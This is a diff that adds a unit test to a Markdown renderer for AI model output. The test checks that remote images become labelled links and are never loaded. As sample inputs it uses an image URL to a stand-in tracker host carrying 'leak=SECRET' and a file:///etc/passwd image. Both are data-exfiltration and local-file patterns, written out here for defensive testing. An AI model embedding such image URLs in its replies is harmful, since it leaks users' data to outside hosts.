@@ -52,4 +52,19 @@ describe("Markdown (model output)", () => {
     expect(html).toMatch(/<td>&lt;b&gt;y&lt;\/b&gt;<\/td>/);
     expect(html).not.toMatch(/<b>/);
   });
+
+  it("never loads an image: remote images become links that say where they point", () => {
+    const html = render(
+      "![a pixel](https://tracker.example/pixel.png?leak=SECRET) and ![](http://x.example/y.png)",
+    );
+    expect(html).not.toMatch(/<img/i);
+    expect(html).toContain('href="https://tracker.example/pixel.png?leak=SECRET"');
+    expect(html).toContain("[Image: a pixel · tracker.example]");
+    expect(html).toContain("[Image: image · x.example]");
+    expect(html).toMatch(/target="_blank" rel="noopener noreferrer nofollow"/);
+    // not a web address (the sanitizer already dropped it): just the words
+    expect(render("![local](file:///etc/passwd)")).toBe(
+      '<div class="markdown"><p><span class="md-image blocked">[Image: local]</span></p></div>',
+    );
+  });
 });
